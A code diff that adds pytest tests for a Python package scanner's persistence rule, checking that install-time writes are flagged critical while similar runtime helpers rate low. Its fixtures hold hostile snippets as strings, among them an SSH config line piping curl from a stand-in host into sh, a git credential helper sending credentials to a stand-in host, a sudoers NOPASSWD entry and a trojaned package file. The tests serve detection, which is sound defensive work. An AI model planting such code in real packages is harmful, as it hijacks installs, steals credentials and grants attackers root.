@@ -2,7 +2,8 @@
 
 from __future__ import annotations
 
-from rulekit import ids, py, run
+import pytest
+from rulekit import ids, py, run, severities
 
 from pipvet.analysis.rules import persistence
 from pipvet.models import Severity, Stage
@@ -304,3 +305,170 @@ def test_a_git_hook_planted_at_install_versus_a_hook_manager_at_run_time() -> No
         stage=Stage.RUNTIME,
     )
     assert [f.severity for f in run(R, manager)] == [Severity.LOW]
+
+
+def _install(source: str) -> list[Severity]:
+    return severities(R, py(source, path="x-1.0/setup.py", stage=Stage.INSTALL), "PV-PERSIST")
+
+
+def test_pip_configuration_rewritten_at_install_versus_a_mirror_switcher_on_request() -> None:
+    """Every later install comes from the index a planted pip.conf names; mirror switchers
+    write the same file when their user asks them to."""
+    planted = _install(
+        "import os\ncfg = os.path.expanduser('~/.config/pip/pip.conf')\n"
+        "with open(cfg, 'w') as fh:\n    fh.write('[global]\\nindex-url = http://idx.example/simple\\n')\n"
+    )
+    assert planted == [Severity.CRITICAL]
+    switcher = py(
+        "import os\ndef use(url):\n    path = os.path.expanduser('~/.config/pip/pip.conf')\n"
+        "    with open(path, 'w') as fh:\n        fh.write('[global]\\nindex-url = ' + url)\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, switcher, "PV-PERSIST") == [Severity.LOW]
+    # reading pip's configuration, with a write elsewhere that has nothing to do with it
+    reader = py(
+        "import configparser, os\nCFG = configparser.ConfigParser()\n"
+        "CFG.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
+        "with open('report.txt', 'w') as fh:\n    fh.write(str(CFG.sections()))\n"
+    )
+    assert severities(R, reader, "PV-PERSIST") == []
+
+
+def test_hosts_file_ssh_config_and_preload_list_written_at_install() -> None:
+    assert _install("with open('/etc/hosts', 'a') as fh:\n    fh.write('203.0.113.9 idx.example\\n')\n") == [
+        Severity.CRITICAL
+    ]
+    ssh = _install(
+        "import os\nwith open(os.path.expanduser('~/.ssh/config'), 'a') as fh:\n"
+        "    fh.write('Host *\\n    LocalCommand curl -s https://h.example/s | sh\\n')\n"
+    )
+    assert ssh == [Severity.CRITICAL]
+    preload = _install(
+        "with open('/etc/ld.so.preload', 'a') as fh:\n    fh.write('/usr/local/lib/libx.so\\n')\n"
+    )
+    assert preload == [Severity.CRITICAL]
+    # an SSH library that only reads the client configuration
+    paramiko_like = py(
+        "import os\ndef load():\n    with open(os.path.expanduser('~/.ssh/config')) as fh:\n"
+        "        return fh.read()\n"
+        "def save(path, data):\n    with open(path, 'w') as fh:\n        fh.write(data)\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, paramiko_like, "PV-PERSIST") == []
+
+
+def test_another_packages_code_a_planted_dll_and_a_fake_sudo_at_install() -> None:
+    trojan = _install(
+        "import os, site\n"
+        "target = os.path.join(site.getsitepackages()[0], 'requests', '__init__.py')\n"
+        "with open(target, 'a') as fh:\n    fh.write('import _hook\\n')\n"
+    )
+    assert trojan == [Severity.CRITICAL]
+    dll = _install(
+        "import os, shutil, sys\nhere = os.path.dirname(__file__)\n"
+        "shutil.copy(os.path.join(here, 'version.dll'), os.path.join(sys.exec_prefix, 'version.dll'))\n"
+    )
+    assert dll == [Severity.CRITICAL]
+    sudo = _install(
+        "import os\nbindir = os.path.expanduser('~/.local/bin')\nshim = os.path.join(bindir, 'sudo')\n"
+        "with open(shim, 'w') as fh:\n    fh.write('#!/bin/sh\\n')\nos.chmod(shim, 0o755)\n"
+    )
+    assert sudo == [Severity.CRITICAL]
+    # finding System32 to start a program there is not planting anything in it
+    runner = py(
+        "import os, subprocess\n"
+        "CMD = os.path.join(os.environ['SystemRoot'], 'Windows\\\\System32', 'cmd.exe')\n"
+        "def run(args, log):\n    subprocess.run([CMD, '/c', *args])\n"
+        "    with open(log, 'a') as fh:\n        fh.write(' '.join(args))\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, runner, "PV-PERSIST") == []
+
+
+def test_git_global_configuration_that_runs_commands_set_at_install() -> None:
+    helper = _install(
+        "import subprocess\nsubprocess.run(['git', 'config', '--global', 'credential.helper', "
+        "'!f() { cat | curl -s -d @- https://h.example/g; }; f'])\n"
+    )
+    assert helper == [Severity.CRITICAL]
+    # a setup helper that configures git's identity and a cache helper when asked
+    setup_tool = py(
+        "import subprocess\ndef configure(name):\n"
+        "    subprocess.run(['git', 'config', '--global', 'user.name', name])\n"
+        "    subprocess.run(['git', 'config', '--global', 'credential.helper', 'cache'])\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, setup_tool, "PV-PERSIST") == [Severity.LOW]
+
+
+@pytest.mark.parametrize(
+    ("source", "place"),
+    [
+        (
+            "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'config', 'set', "
+            "'global.index-url', 'http://idx.example/simple'])\n",
+            "pip index set by pip config",
+        ),
+        (
+            "import subprocess\nsubprocess.run(['git', 'config', '--global', "
+            "'url.http://git.example/gh/.insteadOf', 'https://code.example/'])\n",
+            "git configuration",
+        ),
+        (
+            "with open('/etc/resolv.conf', 'w') as fh:\n    fh.write('nameserver 203.0.113.9\\n')\n",
+            "DNS resolver",
+        ),
+        (
+            "with open('/etc/sudoers.d/99-x', 'w') as fh:\n    fh.write('me ALL=(ALL) NOPASSWD: ALL\\n')\n",
+            "sudo",
+        ),
+        ("with open('/etc/rc.local', 'a') as fh:\n    fh.write('python3 -m x.agent &\\n')\n", "boot script"),
+        ("with open('/etc/crontab', 'a') as fh:\n    fh.write('*/5 * * * * root python3 -m x\\n')\n", "cron"),
+        (
+            "import os\nwith open(os.path.expanduser('~/.condarc'), 'w') as fh:\n"
+            "    fh.write('channels:\\n  - http://idx.example/conda\\n')\n",
+            "pip or uv configuration",
+        ),
+    ],
+)
+def test_places_that_redirect_what_runs_next_written_at_install(source: str, place: str) -> None:
+    found = [
+        f for f in run(R, py(source, path="x-1.0/setup.py", stage=Stage.INSTALL)) if f.rule == "PV-PERSIST"
+    ]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    assert place in found[0].message
+
+
+def test_powershell_and_fish_profiles_are_shell_start_up_files() -> None:
+    for path in (
+        "os.path.join(os.path.expanduser('~'), 'Documents', 'WindowsPowerShell', "
+        "'Microsoft.PowerShell_profile.ps1')",
+        "os.path.expanduser('~/.config/fish/config.fish')",
+    ):
+        source = (
+            f"import os\nprof = {path}\nwith open(prof, 'a') as fh:\n    fh.write('python3 -m x.agent\\n')\n"
+        )
+        assert _install(source) == [Severity.HIGH], path
+
+
+def test_a_boot_script_or_a_pip_mirror_written_on_request_is_low() -> None:
+    """Service generators write init scripts, and mirror switchers set pip's index, when their
+    user runs them; at install either hijacks what runs next (above)."""
+    initd = py(
+        "import os\ndef write_service(name, command):\n    path = os.path.join('/etc/init.d', name)\n"
+        "    with open(path, 'w') as fh:\n        fh.write(command)\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, initd, "PV-PERSIST") == [Severity.LOW]
+    mirror = py(
+        "import subprocess, sys\ndef use(url):\n"
+        "    subprocess.run([sys.executable, '-m', 'pip', 'config', 'set', 'global.index-url', url])\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, mirror, "PV-PERSIST") == [Severity.LOW]
+    resolver = py(
+        "def nameservers(path='/etc/resolv.conf'):\n"
+        "    with open(path) as fh:\n        return fh.read().split()\n",
+        stage=Stage.RUNTIME,
+    )
+    assert severities(R, resolver, "PV-PERSIST") == []
